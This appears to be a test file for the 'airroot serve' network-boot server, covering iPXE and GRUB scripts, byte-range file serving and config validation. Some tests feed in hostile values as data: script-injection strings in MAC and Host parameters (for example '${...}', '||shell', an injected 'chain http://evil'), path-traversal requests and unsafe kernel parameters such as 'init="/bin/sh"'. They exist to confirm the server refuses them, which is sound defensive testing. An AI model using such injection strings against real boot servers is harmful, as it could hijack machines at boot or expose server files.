// Network boot through `airroot serve` in-process, on loopback: the iPXE scripts (chain, per-node from the node DB,
// unknown and malformed MACs, hostile mac parameters never reflected, no boot files yet), the boot files over HTTPS
// and plain HTTP with byte ranges and revalidation (curl), the plain-HTTP listener refusing the API and images,
// config http-port and boot-cmdline through the config editor, and where the HTTP listener binds by default.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { createHash, randomBytes } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { scratchDir, removeScratchDirs } from "../helpers/tmp";
import { initState, readConfig, statePaths, writeConfig } from "../../src/server/state.ts";
import { serve, type RunningServer } from "../../src/server/serve.ts";
import { openDatabase } from "../../src/server/store/db.ts";
import { addNode } from "../../src/server/store/nodes.ts";
import { installBootFiles } from "../../src/server/bootfiles.ts";
import { applyEdit } from "../../src/server/configedit.ts";
import { checkBootCmdline, nodeScript } from "../../src/server/bootscript.ts";
import { bootBases, pickBase } from "../../src/server/netboot.ts";

const MAIN = join(import.meta.dir, "../../src/cli/main.ts");
const BUN = join(import.meta.dir, "../../node_modules/.bin/bun");
let dir: string, state: string, srv: RunningServer, https: string, http: string;
// A fake "kernel" with a bzImage header and a fake zstd "initramfs": served as bytes, never booted here.
const kernel = randomBytes(3 * 1024 * 1024 + 17);
kernel.write("HdrS", 0x202, "latin1");
const initrd = Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), randomBytes(5 * 1024 * 1024 + 3)]);
const sha = (b: Buffer) => createHash("sha256").update(b).digest("hex");

async function curl(args: string[]): Promise<{ status: number; head: string; body: Buffer }> {
  const hf = join(dir, `h-${Math.random().toString(36).slice(2)}`);
  const p = Bun.spawn(["curl", "-sS", "-g", "-m", "20", "--cacert", statePaths(state).siteCaCert, "-D", hf, ...args], { stdout: "pipe", stderr: "pipe" });
  const body = Buffer.from(await new Response(p.stdout).arrayBuffer());
  const code = await p.exited;
  if (code !== 0) throw new Error(`curl ${args.join(" ")}: ${await new Response(p.stderr).text()}`);
  const head = readFileSync(hf, "utf8");
  return { status: Number(/^HTTP\/1\.1 (\d+)/.exec(head)?.[1]), head, body };
}
const text = async (url: string, extra: string[] = []) => { const r = await curl([...extra, url]); return { ...r, text: r.body.toString("utf8") }; };

beforeAll(async () => {
  dir = scratchDir();
  state = join(dir, "state");
  await initState(state, { addresses: ["10.0.2.100"] });
  writeConfig(state, { ...readConfig(state), httpPort: 8080, bootCmdline: "console=ttyS0,115200 quiet", peers: ["https://10.0.2.110"] });
  const db = await openDatabase(state);
  await addNode(db, { name: "n001", macs: ["52:54:00:12:34:56"], profile: "compute", net: { mode: "dhcp" } });
  await addNode(db, { name: "n002", macs: ["52:54:00:12:34:57"], profile: "compute", net: { mode: "static", ip: "10.0.3.2/16", gateway: "10.0.0.1", dns: [] } });
  await db.close();
  srv = await serve({ stateDir: state, listen: ["127.0.0.1:0"], httpListen: ["127.0.0.1:0"], discovery: false, configCheckMs: 0 });
  https = srv.localUrls[0];
  http = srv.httpLocalUrls[0];
}, 60_000);
afterAll(async () => { await srv?.close(); removeScratchDirs(); });

describe("before any boot file is installed", () => {
  test("every script says so on the console and how to fix it (no hang, no 404)", async () => {
    for (const u of [`${http}/boot/ipxe`, `${http}/boot/ipxe?mac=52:54:00:12:34:56`, `${https}/boot/ipxe`]) {
      const r = await text(u);
      expect(r.status).toBe(200);
      expect(r.text).toStartWith("#!ipxe\n");
      expect(r.text).toContain("echo airroot: the server has no vmlinuz and no initramfs to boot yet");
      expect(r.text).toContain("airroot serve boot-files --state");
      expect(r.text).toMatch(/sleep 30\nexit 1\n$/);
    }
    expect((await curl([`${http}/boot/vmlinuz`])).status).toBe(404);
  });
});

describe("with boot files installed", () => {
  beforeAll(() => {
    writeFileSync(join(dir, "vmlinuz"), kernel);
    writeFileSync(join(dir, "initrd.zst"), initrd);
    const r = installBootFiles(state, { kernel: join(dir, "vmlinuz"), initrd: join(dir, "initrd.zst") });
    expect(r.warnings.filter((w) => /does not look like/.test(w))).toEqual([]);
  });

  test("/boot/ipxe chains to the per-node script with the boot NIC's MAC, on the listener's scheme and the advertised host", async () => {
    const h = await text(`${http}/boot/ipxe`);
    expect(h.head.toLowerCase()).toContain("content-type: text/plain");
    expect(h.head.toLowerCase()).toContain("cache-control: no-store");
    expect(h.text).toBe("#!ipxe\n# airroot: find this machine's node by the MAC of its boot NIC\nchain http://10.0.2.100:8080/boot/ipxe?mac=${netX/mac:hexhyp}\n");
    const s = await text(`${https}/boot/ipxe`);
    expect(s.text).toContain("chain https://10.0.2.100/boot/ipxe?mac=${netX/mac:hexhyp}\n");
    const head = await curl(["-I", `${http}/boot/ipxe`]);
    expect(head.status).toBe(200);
    expect(head.head.toLowerCase()).toContain(`content-length: ${h.body.length}`);
  });

  test("the per-node script: this server's kernel and initramfs, the site's kernel parameters, the API URLs, a static address", async () => {
    for (const mac of ["52:54:00:12:34:56", "52-54-00-12-34-56", "52%3A54%3A00%3A12%3A34%3A56", "52-54-00-12-34-56".toUpperCase()]) {
      const r = await text(`${http}/boot/ipxe?mac=${mac}`);
      expect(r.text).toBe([
        "#!ipxe",
        "# airroot: node n001 (52:54:00:12:34:56), profile compute, DHCP",
        "echo airroot: booting n001 from http://10.0.2.100:8080",
        "kernel http://10.0.2.100:8080/boot/vmlinuz initrd=initramfs console=ttyS0,115200 quiet airroot.server=https://10.0.2.100,https://10.0.2.110",
        "initrd --name initramfs http://10.0.2.100:8080/boot/initramfs",
        "boot", ""].join("\n"));
    }
    const st = await text(`${https}/boot/ipxe?mac=52:54:00:12:34:57`);
    expect(st.text).toContain("kernel https://10.0.2.100/boot/vmlinuz initrd=initramfs console=ttyS0,115200 quiet airroot.server=https://10.0.2.100,https://10.0.2.110 airroot.ip=eth0:10.0.3.2/16:10.0.0.1\n");
    expect(st.text).toContain("initrd --name initramfs https://10.0.2.100/boot/initramfs\n");
    const audit = readFileSync(statePaths(state).audit, "utf8");
    expect(audit).toMatch(/"event":"boot-script","outcome":"ok".*"node":"n001"/);
  });

  test("the Host header picks among the configured hosts only, never writes one", () => {
    const bases = bootBases(["https://10.0.2.100", "https://[fd00::1]:8443", "https://boot.example/x"], "http", 8080);
    expect(bases).toEqual(["http://10.0.2.100:8080", "http://[fd00::1]:8080", "http://boot.example:8080"]);
    expect(pickBase(bases, "boot.example:8080")).toBe("http://boot.example:8080");
    expect(pickBase(bases, "[fd00::1]:8080")).toBe("http://[fd00::1]:8080");
    expect(pickBase(bases, "evil.example")).toBe("http://10.0.2.100:8080");
    expect(pickBase(bases, "${x}\nchain http://evil")).toBe("http://10.0.2.100:8080");
    expect(bootBases(["https://10.0.2.100:8443"], "http", 80)).toEqual(["http://10.0.2.100"]);
    expect(bootBases(["https://[fe80::1]", "https://10.0.2.100"], "https", 80)).toEqual(["https://10.0.2.100", "https://[fe80::1]"]);
  });

  test("a hostile Host header only picks among the configured hosts: the script never carries it", async () => {
    for (const h of ["evil.example", "${net0/ip}", "10.0.2.100:8080 || shell", "[::1]"]) {
      const r = await text(`${http}/boot/ipxe?mac=52:54:00:12:34:56`, ["-H", `Host: ${h}`]);
      expect(r.text).toContain("kernel http://10.0.2.100:8080/boot/vmlinuz ");
      expect(r.text).not.toContain("evil");
      expect(r.text).not.toContain("${net0");
      expect(r.text).not.toContain("||");
    }
  });

  test("an unknown MAC gets a script that names it and how to register it, then hands back to the firmware", async () => {
    const r = await text(`${http}/boot/ipxe?mac=52:54:00:aa:bb:cc`);
    expect(r.status).toBe(200);
    expect(r.text).toContain("echo airroot: no node is registered with the MAC 52:54:00:aa:bb:cc");
    expect(r.text).toContain("echo airroot: on the server: airroot node add NAME --mac 52:54:00:aa:bb:cc --profile PROFILE, then airroot node arm NAME");
    expect(r.text).toMatch(/echo airroot: handing back to the firmware in 30 s \(next boot device\)\nsleep 30\nexit 1\n$/);
    expect(r.text).not.toMatch(/^(kernel|initrd|chain|boot)\b/m);
    expect(readFileSync(statePaths(state).audit, "utf8")).toMatch(/"event":"boot-script","outcome":"refused".*no node with MAC 52:54:00:aa:bb:cc/);
  });

  test("hostile mac parameters are never reflected unsafely: ${...}, ||, newlines, #, overlong, several", async () => {
    const hostile = [
      "${net0/mac}", "52:54:00:12:34:56||shell", "52:54:00:12:34:56%0Achain%20http://evil/x", "%0Akernel http://evil",
      "52:54:00:12:34:56 && shell", "52:54:00:12:34:56%20", "52:54:00:12:34:56&x=1", "#!ipxe", "%24%7Bip%7D", "x".repeat(3000), "52:54:00:12:34:5g", "", "%00%1b[2J",
    ];
    for (const h of hostile) {
      for (const base of [http, https]) {
        const r = await text(`${base}/boot/ipxe?mac=${h.replace(/ /g, "%20")}`);
        expect(r.status).toBe(200);
        const lines = r.text.split("\n");
        expect(lines[0]).toBe("#!ipxe");
        // Only echo, sleep, exit and comments: nothing that fetches, boots or runs a shell.
        for (const l of lines.slice(1)) expect(l).toMatch(/^(# airroot: malformed MAC|echo airroot: [A-Za-z0-9 .,:/()_@=+%~?-]*|sleep 30|exit 1|)$/);
        expect(r.text).not.toContain("${");
        expect(r.text).not.toContain("||");
        expect(r.text).not.toMatch(/^(kernel|initrd|chain|boot|shell|imgexec)\b/m);
        expect(r.text.length).toBeLessThan(1000);
      }
    }
    const two = await text(`${http}/boot/ipxe?mac=52:54:00:12:34:56&mac=52:54:00:12:34:57`);
    expect(two.text).toContain("# airroot: malformed MAC");
    const other = await text(`${http}/boot/ipxe?foo=\${x}`);
    expect(other.text).toContain("# airroot: malformed MAC");
    expect(other.text).not.toContain("${");
  });

  test("GRUB (the Secure Boot chain): /grub/grub.cfg sources the per-node config by the boot NIC's MAC; it loads this server's kernel and initramfs, each parameter quoted", async () => {
    for (const base of [http, https]) {
      const g = await text(`${base}/grub/grub.cfg`);
      expect(g.status).toBe(200);
      expect(g.text).toBe([
        "# airroot: find this machine's node by the MAC of its boot NIC",
        'source "/boot/grub?mac=${net_default_mac}"',
        "echo 'airroot: the per-node GRUB config could not be fetched from this server (see the error above)'",
        "echo 'airroot: handing back to the firmware in 30 s (next boot device)'",
        "sleep 30", "exit 1", ""].join("\n"));
      // /boot/grub without a query is the same generic config.
      expect((await text(`${base}/boot/grub`)).text).toBe(g.text);
    }
    const r = await text(`${http}/boot/grub?mac=52:54:00:12:34:56`);
    expect(r.text).toBe([
      "# airroot: node n001 (52:54:00:12:34:56), profile compute, DHCP",
      "echo 'airroot: booting n001 from http://10.0.2.100:8080'",
      "linux /boot/vmlinuz 'console=ttyS0,115200' 'quiet' 'airroot.server=https://10.0.2.100,https://10.0.2.110'",
      "initrd /boot/initramfs",
      "boot",
      "echo 'airroot: GRUB could not load or start /boot/vmlinuz with /boot/initramfs (see the error above)'",
      "echo 'airroot: handing back to the firmware in 30 s (next boot device)'",
      "sleep 30", "exit 1", ""].join("\n"));
    const st = await text(`${http}/boot/grub?mac=52-54-00-12-34-57`);
    expect(st.text).toContain(" 'airroot.ip=eth0:10.0.3.2/16:10.0.0.1'\n");
    expect(readFileSync(statePaths(state).audit, "utf8")).toMatch(/"event":"boot-script","outcome":"ok".*"node":"n002","reason":"per-node GRUB script over http, MAC 52:54:00:12:34:57"/);
    const unknown = await text(`${http}/boot/grub?mac=52:54:00:aa:bb:cc`);
    expect(unknown.text).toStartWith("# airroot: no node with MAC 52:54:00:aa:bb:cc\n");
    expect(unknown.text).toContain("echo 'airroot: on the server: airroot node add NAME --mac 52:54:00:aa:bb:cc --profile PROFILE, then airroot node arm NAME'");
    expect(unknown.text).toMatch(/\nsleep 30\nexit 1\n$/);
    expect(unknown.text).not.toMatch(/^(linux|initrd|boot|source)\b/m);
  });

  test("GRUB: hostile mac parameters never reach a GRUB command; only quoted echo, sleep and exit", async () => {
    for (const h of ["${net_default_ip}", "52:54:00:12:34:56';reboot;'", "%0Alinux /evil", "$(x)", "52:54:00:12:34:56%20boot", "x".repeat(3000), "'", "%00"]) {
      const r = await text(`${http}/boot/grub?mac=${h.replace(/ /g, "%20")}`);
      expect(r.status).toBe(200);
      for (const l of r.text.split("\n")) expect(l).toMatch(/^(# airroot: malformed MAC|echo 'airroot: [A-Za-z0-9 .,:/()_@=+%~?-]*'|sleep 30|exit 1|)$/);
      expect(r.text).toContain("chain the generic script instead: /grub/grub.cfg");
    }
  });

  test("what shim and GRUB probe for is a quiet 404 (no audit line); shim's //grubx64.efi finds the file", async () => {
    const grub = Buffer.alloc(4096);
    grub.write("MZ", 0, "latin1"); grub.writeUInt32LE(0x80, 0x3c); grub.write("PE\0\0", 0x80, "latin1"); grub.write("GET %s HTTP/1.1", 0x400, "latin1");
    const shim = Buffer.from(grub); shim.fill(0, 0x400);
    writeFileSync(join(dir, "shim.efi"), shim); writeFileSync(join(dir, "grub.efi"), grub);
    const inst = installBootFiles(state, { shim: join(dir, "shim.efi"), grub: join(dir, "grub.efi"), ipxeDir: null });
    expect(inst.installed.map((i) => i.name)).toEqual(["shimx64.efi", "grubx64.efi"]);
    expect(inst.warnings).toEqual([]);
    const before = readFileSync(statePaths(state).audit, "utf8").length;
    for (const p of ["/boot/revocations_sku.efi", "/boot/revocations_sbat.efi", "/boot/shim_certificate_0.efi", "/grub/x86_64-efi/command.lst",
      "/grub/x86_64-efi/grub.cfg", "/grub/fonts/unicode.pf2"]) {
      expect((await curl([`${http}${p}`])).status).toBe(404);
    }
    expect(readFileSync(statePaths(state).audit, "utf8").length).toBe(before);
    const r = await curl(["--path-as-is", `${http}/boot//grubx64.efi`]);
    expect(r.status).toBe(200);
    expect(sha(r.body)).toBe(sha(grub));
    expect(sha((await curl([`${http}/boot/shimx64.efi`])).body)).toBe(sha(shim));
    // A FAT image for UEFI HTTP boot: its type tells the firmware to mount it as a RAM disk.
    const fat = Buffer.alloc(8192); fat[510] = 0x55; fat[511] = 0xaa;
    writeFileSync(join(dir, "boot.img"), fat);
    installBootFiles(state, { img: join(dir, "boot.img"), ipxeDir: null });
    const head = await curl(["-I", `${http}/boot/boot.img`]);
    expect(head.status).toBe(200);
    expect(head.head).toContain("\r\nContent-Type: application/vnd.efi-img\r\n");
  });

  test("boot files over HTTPS and plain HTTP: HEAD, whole file, ranges, suffix, 416, ETag and If-None-Match, If-Range", async () => {
    for (const base of [https, http]) {
      for (const [name, data] of [["vmlinuz", kernel], ["initramfs", initrd]] as const) {
        const u = `${base}/boot/${name}`;
        const head = await curl(["-I", u]);
        expect(head.status).toBe(200);
        expect(head.head.toLowerCase()).toContain(`content-length: ${data.length}`);
        expect(head.head.toLowerCase()).toContain("accept-ranges: bytes");
        expect(head.head.toLowerCase()).toContain("cache-control: no-cache");
        const etag = /^etag: (".*")\r?$/im.exec(head.head)?.[1];
        expect(etag).toMatch(/^"[0-9a-f]+-[0-9a-f]+-[0-9a-f]+"$/);
        expect(sha((await curl([u])).body)).toBe(sha(data));
        const r = await curl(["-r", "1048576-2097151", u]);
        expect(r.status).toBe(206);
        // Exactly this spelling: GRUB's HTTP client compares header names case-sensitively (Content-Length too).
        expect(r.head).toContain(`Content-Range: bytes 1048576-2097151/${data.length}\r\n`);
        expect(r.head).toContain("\r\nContent-Length: 1048576\r\n");
        expect(r.head).toMatch(/\r\nETag: "/);
        expect(Buffer.compare(r.body, data.subarray(1048576, 2097152))).toBe(0);
        expect(Buffer.compare((await curl(["-r", "-100", u])).body, data.subarray(data.length - 100))).toBe(0);
        expect((await curl(["-r", `${data.length}-`, u])).status).toBe(416);
        expect((await curl(["-H", `If-None-Match: ${etag}`, u])).status).toBe(304);
        expect((await curl(["-r", "0-9", "-H", `If-Range: ${etag}`, u])).status).toBe(206);
        expect((await curl(["-r", "0-9", "-H", 'If-Range: "stale"', u])).status).toBe(200);
      }
      for (const name of ["undionly.kpxe", "snponly.efi", "ipxe.efi"]) {
        const r = await curl(["-r", "0-1", `${base}/boot/${name}`]);
        expect(r.status).toBe(206); // Debian's iPXE binaries, copied in by installBootFiles
      }
    }
  });

  test("a reinstalled kernel gets a new ETag (caches revalidate), and a range against the old one gets the whole new file", async () => {
    const u = `${http}/boot/vmlinuz`;
    const before = /^etag: (".*")\r?$/im.exec((await curl(["-I", u])).head)![1];
    const k2 = Buffer.concat([kernel.subarray(0, 0x300), randomBytes(1024 * 1024)]);
    writeFileSync(join(dir, "vmlinuz2"), k2);
    installBootFiles(state, { kernel: join(dir, "vmlinuz2"), initrd: join(dir, "initrd.zst"), ipxeDir: null });
    const after = /^etag: (".*")\r?$/im.exec((await curl(["-I", u])).head)![1];
    expect(after).not.toBe(before);
    const r = await curl(["-r", "0-9", "-H", `If-Range: ${before}`, u]);
    expect(r.status).toBe(200);
    expect(sha(r.body)).toBe(sha(k2));
  });

  test("other names under /boot/, traversal, other methods: refused and audited", async () => {
    for (const p of ["/boot/", "/boot/config.json", "/boot/../config.json", "/boot/%2e%2e/config.json", "/boot/vmlinuz/", "/boot/.vmlinuz.tmp", "/boot/airroot.db"]) {
      const r = await curl(["--path-as-is", `${http}${p}`]);
      expect(r.status).toBeGreaterThanOrEqual(403);
      expect(r.body.toString()).not.toContain("serverId");
    }
    const post = await curl(["-X", "POST", "-d", "x", `${http}/boot/ipxe`]);
    expect(post.status).toBe(405);
    expect(post.head).toMatch(/^allow: GET, HEAD\r?$/im);
    expect(readFileSync(statePaths(state).audit, "utf8")).toMatch(/"event":"boot","outcome":"refused".*not a boot file name/);
  });

  test("the plain-HTTP listener serves /boot/ only: the API and images are refused with a message naming HTTPS", async () => {
    for (const p of ["/api/v1/info", "/api/v1/enroll", "/images/" + "0".repeat(64) + ".sfs"]) {
      const r = await curl([`${http}${p}`]);
      expect(r.status).toBe(403);
      expect(r.body.toString()).toMatch(/served over HTTPS only at https:\/\/10\.0\.2\.100; plain HTTP serves network boot files \(\/boot\/\) only/);
    }
    const post = await curl(["-X", "POST", "-H", "content-type: application/json", "-d", "{}", `${http}/api/v1/enroll`]);
    expect(post.status).toBe(403);
    const other = await curl([`${http}/`]);
    expect(other.status).toBe(404);
    expect(other.body.toString()).toContain("plain HTTP serves network boot files (/boot/, /grub/grub.cfg) only");
    // The same paths over HTTPS are the API's.
    expect((await curl([`${https}/api/v1/info`])).status).toBe(200);
    expect(readFileSync(statePaths(state).audit, "utf8")).toMatch(/"event":"http","outcome":"refused".*GET \/api\/v1\/info: not served over plain HTTP/);
  });

  test("boot-cmdline changes reach the next script without a restart", async () => {
    writeConfig(state, { ...readConfig(state), bootCmdline: "console=ttyS1 nomodeset" });
    srv.reloadConfig();
    const r = await text(`${http}/boot/ipxe?mac=52:54:00:12:34:56`);
    expect(r.text).toContain(" initrd=initramfs console=ttyS1 nomodeset airroot.server=");
  });
});

describe("config keys", () => {
  test("http-port and boot-cmdline through the config editor: validated, unsafe parameters refused", () => {
    const c = readConfig(state);
    expect(applyEdit(c, "set", "http-port", ["80"]).config.httpPort).toBe(80);
    expect(() => applyEdit(c, "set", "http-port", ["65536"])).toThrow(/http-port: "65536" is not a whole number between 0 and 65535/);
    expect(applyEdit(c, "set", "boot-cmdline", ["console=ttyS0,115200", "quiet"]).config.bootCmdline).toBe("console=ttyS0,115200 quiet");
    expect(applyEdit(c, "set", "boot-cmdline", []).config.bootCmdline).toBeUndefined();
    // Whitespace (a newline included) only separates parameters: never a new script line.
    expect(applyEdit(c, "set", "boot-cmdline", ["quiet\nchain http://evil"]).config.bootCmdline).toBe("quiet chain http://evil");
    for (const bad of ["console=${x}", "a||b", "x #comment", "init=\"/bin/sh\"", "a&&b"]) {
      expect(() => applyEdit(c, "set", "boot-cmdline", [bad])).toThrow(/boot-cmdline: /);
    }
    expect(() => checkBootCmdline("airroot.server=https://evil")).toThrow(/written by the per-node iPXE script itself/);
    expect(() => checkBootCmdline("initrd=x")).toThrow(/written by the per-node iPXE script itself/);
  });

  test("the CLI: `serve config set http-port` and `boot-cmdline`, with clear errors", () => {
    const run = (...a: string[]) => Bun.spawnSync([BUN, MAIN, "serve", "config", ...a, "--state", state], { stdout: "pipe", stderr: "pipe" });
    const ok = run("set", "boot-cmdline", "console=ttyS0 quiet");
    expect(ok.exitCode).toBe(0);
    expect(ok.stdout.toString()).toContain("boot-cmdline: console=ttyS0 quiet");
    const bad = run("set", "boot-cmdline", "console=$x");
    expect(bad.exitCode).not.toBe(0);
    expect(bad.stderr.toString()).toContain('boot-cmdline: "console=$x" has a character iPXE or the kernel would read differently');
    const port = run("set", "http-port", "8081");
    expect(port.stdout.toString()).toContain("http-port takes effect when airroot serve restarts");
  });

  test("a kernel command line longer than the kernel takes gives a script that says so", () => {
    const long = nodeScript({ bootBase: "http://10.0.2.100", apiUrls: ["https://10.0.2.100"], cmdline: "x=".padEnd(2100, "y") },
      { name: "n001", mac: "52:54:00:12:34:56", profile: "p", net: { mode: "dhcp" } });
    expect(long).toContain("more than the kernel takes (2047)");
    expect(long).not.toMatch(/^kernel /m);
  });
});

test("`airroot serve --http-listen` (CLI) says where plain HTTP listens and that it serves /boot/ only", async () => {
  const p = Bun.spawn([BUN, MAIN, "serve", "--state", state, "--listen", "127.0.0.1:0", "--http-listen", "127.0.0.1:0", "--no-discovery"], { stdout: "pipe", stderr: "pipe" });
  try {
    const reader = p.stdout.getReader();
    let out = "";
    const deadline = Date.now() + 30_000;
    while (!/\(plain HTTP, \/boot\/ only\)/.test(out) && Date.now() < deadline) {
      const r = await Promise.race([reader.read(), Bun.sleep(1000).then(() => ({ done: false, value: undefined }))]);
      if (r.done) break;
      if (r.value) out += new TextDecoder().decode(r.value);
    }
    reader.releaseLock();
    expect(out).toMatch(/^listening on 127\.0\.0\.1:\d+$/m);
    expect(out).toMatch(/^listening on 127\.0\.0\.1:\d+ \(plain HTTP, \/boot\/ only\)$/m);
  } finally {
    p.kill("SIGTERM");
    await Promise.race([p.exited, Bun.sleep(5000)]);
    p.kill("SIGKILL");
  }
  const help = Bun.spawnSync([BUN, MAIN, "serve", ...["--help"]], { stdout: "pipe" }).stdout.toString();
  expect(help).toContain("--http-listen");
  expect(help).toContain("boot-files");
  expect(help).toContain("dhcp-config");
}, 60_000);

test("with config http-port and no --http-listen, the HTTP listener binds the --listen hosts, never a wildcard", async () => {
  const s2 = join(dir, "state2");
  await initState(s2, { addresses: ["10.0.2.100"] });
  writeConfig(s2, { ...readConfig(s2), httpPort: 0 });
  const none = await serve({ stateDir: s2, listen: ["127.0.0.1:0"], discovery: false, configCheckMs: 0 });
  try { expect(none.httpListening).toEqual([]); } finally { await none.close(); }
  const { freePort } = await import("../helpers/ports");
  const port = await freePort();
  writeConfig(s2, { ...readConfig(s2), httpPort: port });
  const two = await serve({ stateDir: s2, listen: ["127.0.0.1:0"], discovery: false, configCheckMs: 0 });
  try {
    expect(two.httpListening).toEqual([{ host: "127.0.0.1", port }]);
    expect((await text(`http://127.0.0.1:${port}/boot/ipxe`)).text).toContain(`no vmlinuz and no initramfs`);
  } finally { await two.close(); }
}, 30_000);
